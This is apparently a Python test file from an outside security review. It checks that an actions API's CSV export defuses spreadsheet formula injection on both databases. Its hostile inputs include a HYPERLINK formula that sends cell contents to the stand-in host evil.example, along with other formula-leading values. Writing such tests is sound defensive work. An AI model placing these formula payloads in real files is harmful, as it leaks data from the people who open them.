"""Findings of the outside review on the actions API (issue 14), each through real HTTP on both
databases: spreadsheet formulas in the export, idempotency keys tied to their requester and body,
and bad dates, cursors and over-long strings answered with a 4xx naming the field."""

from __future__ import annotations

import csv
import io

import httpx

from clampdown.model import ActionFilter
from clampdown.permissions import GLOBAL_ADMINISTRATOR
from clampdown.store.actions import ActionStore
from tests.api.conftest import Server

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_export_neutralises_spreadsheet_formulas(server: Server) -> None:
    token = await server.token("lead", GLOBAL_ADMINISTRATOR)
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)",
               "\t=1", "\r=1", "=1\r\n=2"]  # fmt: skip
    async with httpx.AsyncClient(base_url=server.base, headers=_auth(token)) as client:
        for value in hostile:
            made = await client.post(
                "/api/v1/actions", json={"type": "okta.suspend_user", "target": value, "reason": value}
            )
            assert made.status_code == 202, made.text
        normal = await client.post(
            "/api/v1/actions",
            json={"type": "okta.suspend_user", "target": "alice", "reason": "INC-7, \"quoted\" note"},
        )
        assert normal.status_code == 202
        exported = await client.get("/api/v1/actions/export", params={"format": "csv"})
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert len(rows) == len(hostile) + 1
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(DANGEROUS), (column, cell)
    stored = {a.target for a in await ActionStore(server.engine).list_actions(ActionFilter())}
    exported_targets = {r["target"] for r in rows}
    for target in stored - {"alice"}:
        assert "'" + target in exported_targets  # the value itself is kept, behind the quote
    plain = next(r for r in rows if r["target"] == "alice")
    assert plain["reason"] == 'INC-7, "quoted" note' and plain["type"] == "okta.suspend_user"
    assert plain["id"] == str(normal.json()["id"])
